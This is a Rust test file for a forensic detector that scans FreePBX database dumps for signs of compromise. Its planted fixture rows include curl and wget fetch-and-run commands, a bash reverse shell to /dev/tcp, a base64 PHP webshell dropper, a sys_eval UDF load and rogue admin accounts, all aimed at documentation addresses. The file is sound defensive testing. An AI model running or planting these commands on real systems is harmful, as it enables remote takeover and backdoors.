//! One plant a rule, each found by its rule; and what is alike and harmless, found by none.

use super::super::testing::ids;
use super::*;
use crate::detect::Detectors;
use crate::model::{Digest, EvidencePath, FileKind, FileMeta, Mode};
use crate::parse::mysqldump::parse;
use crate::sweep::Visitor as _;

const CLEAN: &str = include_str!("../../../../testdata/database/freepbx_17.sql");

fn detectors() -> Detectors {
    Detectors::new(vec![Box::new(DatabaseDetector::new(Arc::new(Indicators::builtin().unwrap())))])
}

fn context() -> HostContext<'static> {
    HostContext { is_host: true, gaps: &[], selects: &|_| true }
}

/// What is found in the database of a clean PBX and what was planted there.
fn found(plant: &str) -> Vec<Finding> {
    let path = EvidencePath::new("/run/mysqld/mysqld.sock").unwrap();
    let text = format!("{CLEAN}\nUSE asterisk;\n{plant}");
    let outcome = parse(&path, text.as_bytes(), &Limits::default());
    assert_eq!(outcome.gaps, []);
    let detectors = detectors();
    outcome.value.iter().for_each(|record| detectors.consider(record));
    detectors.conclude(&context()).value
}

#[test]
fn a_fresh_installation_has_nothing() {
    let findings = found("");
    assert!(findings.is_empty(), "{findings:#?}");
}

/// Statement and what it has to be found as.
const PLANTS: &[(&str, &str)] = &[
    (
        "INSERT INTO ampusers (username,password_sha1,sections) VALUES ('x','6ea9c6d2d932532a4cd44c7974fb1a0a87dbfcf9','*');",
        "TR-DB-0001 critical",
    ),
    ("INSERT INTO ampusers (username,password_sha1,sections) VALUES ('freepbxusers','aa','*');", "TR-DB-0002 high"),
    ("INSERT INTO ampusers (username,password_sha1,sections) VALUES ('ampuser','aa','*');", "TR-DB-0002 high"),
    ("INSERT INTO ampusers (username,password_sha1,sections) VALUES ('second','aa','*');", "TR-DB-0003 low"),
    (
        "INSERT INTO ampusers (username,password_sha1,sections) VALUES ('weak','d033e22ae348aeb5660fc2140aec35850c4da997','x');",
        "TR-DB-0004 high",
    ),
    (
        "INSERT INTO ampusers (username,password_sha1,sections) VALUES ('same','0b9d27b7dd5f2f9b4b1d0f0f1c5a6f3a1b2c3d4e','x');",
        "TR-DB-0005 medium",
    ),
    ("INSERT INTO userman_users (id,username) VALUES (9,'freepbxusers');", "TR-DB-0010 high"),
    (
        "INSERT INTO userman_users_settings (uid,module,`key`,val) VALUES (9,'global','pbx_admin','1');",
        "TR-DB-0011 low",
    ),
    ("INSERT INTO userman_users (id,username) VALUES (9,'FreePBXUCPTemplateCreator');", "TR-DB-0012 medium"),
    (
        "INSERT INTO cron_jobs (id,modulename,jobname,command,schedule) VALUES (9,'sysadmin','abc','echo PD9waHAgZXhpdDs=|base64 -d >/var/www/html/x.php','* * * * *');",
        "TR-DB-0021 critical",
    ),
    (
        "INSERT INTO cron_jobs (id,modulename,jobname,command,schedule) VALUES (9,'core','abc','curl http://192.0.2.1/x | sh','* * * * *');",
        "TR-DB-0020 high",
    ),
    (
        "INSERT INTO cron_jobs (id,modulename,jobname,command,schedule) VALUES (9,'core','abc','/opt/x/run','* * * * *');",
        "TR-DB-0022 medium",
    ),
    (
        "INSERT INTO cron_jobs (id,modulename,jobname,command,schedule) VALUES (9,'sysadmin','abc','/opt/x/run','* * * * *');",
        "TR-DB-0022 high",
    ),
    (
        "INSERT INTO cron_jobs (id,modulename,jobname,command,schedule) VALUES (9,'core','abc','fwconsole job --run; /opt/x/run','* * * * *');",
        "TR-DB-0022 medium",
    ),
    (
        "INSERT INTO cron_jobs (id,modulename,jobname,command,schedule) VALUES (9,'core','abc','bash /var/lib/asterisk/bin/zen2','* * * * *');",
        "TR-DB-0023 critical",
    ),
    (
        "INSERT INTO cron_jobs (id,modulename,jobname,class,schedule) VALUES (9,'gone','abc','Gone\\\\Job','* * * * *');",
        "TR-DB-0024 medium",
    ),
    (
        "INSERT INTO cronmanager (module,id,command) VALUES ('x','y','wget -q http://192.0.2.1/x -O /tmp/x && sh /tmp/x');",
        "TR-DB-0020 high",
    ),
    ("INSERT INTO modules (id,modulename,enabled) VALUES (90,'admindashboard',1);", "TR-DB-0030 high"),
    ("INSERT INTO modules (id,modulename,enabled) VALUES (90,'h',1);", "TR-DB-0030 high"),
    (
        "UPDATE x; INSERT INTO trunks (trunkid,name,tech,channelid,failscript) VALUES (9,'x','sip','x','notify.sh');",
        "TR-DB-0040 medium",
    ),
    (
        "INSERT INTO trunks (trunkid,name,tech,channelid,failscript) VALUES (9,'x','sip','x','/tmp/.x/run');",
        "TR-DB-0020 high",
    ),
    ("INSERT INTO custom_extensions VALUES ('77','x','System(/usr/bin/id)');", "TR-DB-0045 high"),
    (
        "INSERT INTO pjsip (id,keyword,data) VALUES ('100','context2','x'),('102','context','thanku-outcall');",
        "TR-DB-0046 high",
    ),
    (
        "INSERT INTO outbound_route_patterns (route_id,match_pattern_prefix,match_pattern_pass) VALUES (1,'','X.');",
        "TR-DB-0050 medium",
    ),
    ("INSERT INTO users (extension,name) VALUES ('9998','x');", "TR-DB-0051 medium"),
    ("INSERT INTO disa (disa_id,displayname,pin) VALUES (9,'x','');", "TR-DB-0052 medium"),
    ("INSERT INTO kvstore_FreePBX_modules_Sipsettings VALUES ('allowguest','yes',NULL,'x');", "TR-DB-0053 medium"),
    (
        "INSERT INTO api_applications (id,name,grant_type,client_id,client_secret) VALUES (1,'x','client_credentials','a','b');",
        "TR-DB-0060 low",
    ),
    ("INSERT INTO api_access_tokens (token,aid,ip_address) VALUES ('abc',1,'203.0.113.7');", "TR-DB-0061 medium"),
    (
        "INSERT INTO manager (manager_id,name,secret,deny,permit,`write`) VALUES (9,'x','y','0.0.0.0/0.0.0.0','0.0.0.0/0.0.0.0','system,call,all');",
        "TR-DB-0065 high",
    ),
    ("INSERT INTO arimanager (id,name,password,read_only) VALUES (9,'x','y',0);", "TR-DB-0066 low"),
    (
        "INSERT INTO freepbx_settings (keyword,value,defaultval) VALUES ('POST_RELOAD','/opt/x/run',''); ",
        "TR-DB-0070 medium",
    ),
    (
        "INSERT INTO freepbx_settings (keyword,value,defaultval) VALUES ('PRE_RELOAD','bash -c \"bash -i >& /dev/tcp/192.0.2.1/443 0>&1\"','');",
        "TR-DB-0020 high",
    ),
    ("INSERT INTO kvstore_FreePBX_modules_Backup VALUES ('postbu_hook','/opt/x/run',NULL,'1');", "TR-DB-0070 low"),
    ("INSERT INTO freepbx_settings (keyword,value,defaultval) VALUES ('CHECKREFERER','0','1');", "TR-DB-0071 low"),
    (
        "INSERT INTO freepbx_settings (keyword,value,defaultval) VALUES ('MODULE_REPO','http://mirror1.freepbx.org.example.org','x');",
        "TR-DB-0072 high",
    ),
    (
        "INSERT INTO freepbx_settings (keyword,value,defaultval) VALUES ('AUTHTYPE','none','usermanager');",
        "TR-DB-0075 high",
    ),
    (
        "INSERT INTO freepbx_settings (keyword,value,defaultval) VALUES ('AUTHTYPE','webserver','usermanager');",
        "TR-DB-0076 high",
    ),
    ("INSERT INTO freepbx_settings (keyword,value,defaultval) VALUES ('SIGNATURECHECK','0','1');", "TR-DB-0077 medium"),
    (
        "INSERT INTO freepbx_settings (keyword,value,defaultval) VALUES ('AMP_ACCESS_DB_CREDS','1','0');",
        "TR-DB-0078 medium",
    ),
    ("INSERT INTO freepbx_settings (keyword,value,defaultval) VALUES ('AMPDISABLELOG','1','0');", "TR-DB-0079 low"),
    ("CREATE TRIGGER t AFTER DELETE ON `ampusers` FOR EACH ROW SET @x = 1;", "TR-DB-0080 critical"),
    ("CREATE TRIGGER t AFTER INSERT ON `devices` FOR EACH ROW SET @x = 1;", "TR-DB-0080 high"),
    ("USE asteriskcdrdb; CREATE TRIGGER t AFTER INSERT ON cdr FOR EACH ROW SET @x = 1;", "TR-DB-0080 medium"),
    (
        "CREATE EVENT e ON SCHEDULE EVERY 1 MINUTE DO INSERT INTO `asterisk`.`ampusers` (username) VALUES ('x');",
        "TR-DB-0081 critical",
    ),
    ("CREATE EVENT e ON SCHEDULE EVERY 1 MINUTE DO DELETE FROM x;", "TR-DB-0081 medium"),
    ("CREATE PROCEDURE p() BEGIN SELECT 1 INTO  OUTFILE '/tmp/x'; END;", "TR-DB-0082 high"),
    ("CREATE FUNCTION sys_eval RETURNS STRING SONAME 'lib_mysqludf_sys.so';", "TR-DB-0083 critical"),
    ("CREATE FUNCTION other RETURNS STRING SONAME 'other.so';", "TR-DB-0083 high"),
    ("INSTALL PLUGIN x SONAME 'x.so';", "TR-DB-0084 medium"),
    ("INSERT INTO mysql.servers (Server_name,Host,Password) VALUES ('x','192.0.2.7','y');", "TR-DB-0085 medium"),
    (
        "INSERT INTO mysql.global_priv (Host,User,Priv) VALUES ('%','eve','{\"access\":18446744073709551615,\"plugin\":\"mysql_native_password\",\"authentication_string\":\"*94BDCEBE19083CE2A1F959FD02F964C7AF4CFC29\"}');",
        "TR-DB-0090 high",
    ),
    (
        "INSERT INTO mysql.global_priv (Host,User,Priv) VALUES ('localhost','eve','{\"access\":512,\"plugin\":\"mysql_native_password\",\"authentication_string\":\"*94BDCEBE19083CE2A1F959FD02F964C7AF4CFC29\"}');",
        "TR-DB-0091 medium",
    ),
    (
        "INSERT INTO mysql.global_priv (Host,User,Priv) VALUES ('localhost','root','{\"access\":1,\"plugin\":\"mysql_native_password\",\"authentication_string\":\"\"}');",
        "TR-DB-0092 low",
    ),
    ("INSERT INTO mysql.user (Host,User,Password) VALUES ('%','eve','');", "TR-DB-0092 high"),
    ("INSERT INTO findmefollow (grpnum,grplist) VALUES ('102','102-00442079460000#');", "TR-DB-0095 medium"),
    ("INSERT INTO ringgroups (grpnum,grplist) VALUES ('601','5551234567#');", "TR-DB-0096 low"),
];

/// What stands beside it and is no sign.
const HARMLESS: &[&str] = &[
    "INSERT INTO ampusers (username,password_sha1,sections) VALUES ('reception','aa','cdr;ringgroups');",
    "INSERT INTO cron_jobs (id,modulename,jobname,command,schedule) VALUES (9,'userman','sync','/usr/sbin/fwconsole userman --syncall -q > /dev/null 2>&1','*/15 * * * *');",
    "INSERT INTO cron_jobs (id,modulename,jobname,command,schedule) VALUES (9,'cdr','purge','[ -e /usr/sbin/fwconsole ] && sleep $((RANDOM%30)) && /usr/sbin/fwconsole cdr --purnedata >> /var/log/asterisk/freepbx.log','1 0 * * *');",
    "INSERT INTO manager (manager_id,name,secret,deny,permit,`write`) VALUES (9,'x','y','0.0.0.0/0.0.0.0','192.168.1.0/255.255.255.0','all');",
    "INSERT INTO api_access_tokens (token,aid,ip_address) VALUES ('abc',1,'192.168.1.4');",
    "INSERT INTO mysql.global_priv (Host,User,Priv) VALUES ('localhost','root','{\"access\":18446744073709551615,\"plugin\":\"mysql_native_password\",\"authentication_string\":\"invalid\",\"auth_or\":[{},{\"plugin\":\"unix_socket\"}]}'),('localhost','mariadb.sys','{\"access\":0,\"plugin\":\"mysql_native_password\",\"authentication_string\":\"\",\"account_locked\":true}');",
    "INSERT INTO freepbx_settings (keyword,value,defaultval) VALUES ('MODULE_REPO','https://mirror.freepbx.org','x'),('AMPDISABLELOG','1','1');",
    "INSTALL PLUGIN auth_ed25519 SONAME 'auth_ed25519.so';",
    "CREATE PROCEDURE p() BEGIN SELECT 1; END;",
    "INSERT INTO findmefollow (grpnum,grplist) VALUES ('102','100-101-102#');",
    "INSERT INTO users (extension,name) VALUES ('99980','x');",
];

#[test]
fn every_plant_is_found_by_its_rule() {
    for (plant, rule) in PLANTS {
        let findings = found(plant);
        assert!(ids(&findings).contains(&(*rule).to_owned()), "{plant}\n{:?}", ids(&findings));
        assert!(findings.iter().all(|finding| !finding.references.is_empty()));
        assert!(findings.iter().all(|finding| matches!(finding.subject, Subject::DatabaseRow { .. })));
    }
}

#[test]
fn what_is_harmless_is_not_told() {
    for text in HARMLESS {
        let findings = found(text);
        assert!(findings.is_empty(), "{text}\n{findings:#?}");
    }
}

fn visit(detectors: &Detectors, path: &str, content: &[u8]) {
    let path = EvidencePath::new(path).unwrap();
    let meta = FileMeta::bare(FileKind::File, Mode::new(0o644), content.len() as u64);
    detectors.visit(&Swept { path: &path, meta: &meta, sha256: Some(Digest::of(content)), content: Some(content) });
}

#[test]
fn a_dump_that_lies_about_weighs_less_than_the_database() {
    let detectors = detectors();
    let plant = format!("-- MySQL dump\n{CLEAN}\nUSE asterisk;\n{}", PLANTS[0].0);
    visit(&detectors, "/var/spool/asterisk/backup/old.sql", plant.as_bytes());
    let findings = detectors.conclude(&context()).value;
    let finding = findings.iter().find(|finding| finding.rule.0 == "TR-DB-0001").unwrap();
    assert!(finding.confidence <= KEPT_CONFIDENCE && finding.title.ends_with("in a dump that lies here"));
    assert_eq!(finding.subject.path().as_bytes(), b"/var/spool/asterisk/backup/old.sql");
    // The row has one name, wherever it was read.
    assert_eq!(found(PLANTS[0].0).iter().find(|other| other.rule == finding.rule).unwrap().id, finding.id);
}

/// The bytes of a database of `SQLite` that these statements make.
fn sqlite(sql: &str) -> Vec<u8> {
    let mut connection = rusqlite::Connection::open_in_memory().unwrap();
    connection.execute_batch(sql).unwrap();
    connection.serialize(rusqlite::MAIN_DB).unwrap().to_vec()
}

#[test]
fn a_forward_in_asterisks_own_database_is_told_by_its_entry() {
    let bytes = sqlite(
        "CREATE TABLE astdb(key VARCHAR(256), value VARCHAR(256), PRIMARY KEY(key));
         INSERT INTO astdb VALUES ('/CFU/100','900442079460000'),('/CF/101','102'),('/CFB/102','5551234567'),
         ('/AMPUSER/103/followme/grplist','103-011442079460000#'),('/AMPUSER/104/cidnum','00442079460000');",
    );
    let detectors = detectors();
    visit(&detectors, "/var/lib/asterisk/astdb.sqlite3", &bytes);
    let findings = detectors.conclude(&context()).value;
    let mut told: Vec<String> =
        findings.iter().map(|finding| format!("{} {}", finding.rule, finding.subject)).collect();
    told.sort();
    assert_eq!(
        told,
        ["TR-DB-0095 astdb.AMPUSER [103/followme/grplist]", "TR-DB-0095 astdb.CFU [100]", "TR-DB-0096 astdb.CFB [102]"]
    );
}

#[test]
fn a_module_without_a_folder_is_told_where_all_folders_would_be_seen() {
    let look = |is_host| {
        let path = EvidencePath::new("/run/mysqld/mysqld.sock").unwrap();
        let detectors = detectors();
        parse(&path, CLEAN.as_bytes(), &Limits::default()).value.iter().for_each(|record| detectors.consider(record));
        for name in ["cdr", "firewall", "dashboard", "calendar", "timeconditions", "userman", "backup"] {
            visit(&detectors, &format!("/var/www/html/admin/modules/{name}/module.xml"), b"<module/>");
        }
        detectors.conclude(&HostContext { is_host, ..context() }).value
    };
    assert_eq!(ids(&look(true)), ["TR-DB-0031 medium"]);
    assert!(look(false).is_empty());
}

#[test]
fn every_rule_of_the_table_has_a_plant() {
    let table = include_str!("../../../../rules/README.md");
    let documented: BTreeSet<&str> =
        table.lines().filter_map(|line| line.strip_prefix("| TR-DB-")?.split(' ').next()).collect();
    let planted: BTreeSet<&str> =
        PLANTS.iter().filter_map(|(_, rule)| rule.strip_prefix("TR-DB-")?.split(' ').next()).collect();
    let elsewhere = BTreeSet::from(["0031"]);
    assert_eq!(documented, planted.union(&elsewhere).copied().collect());
}
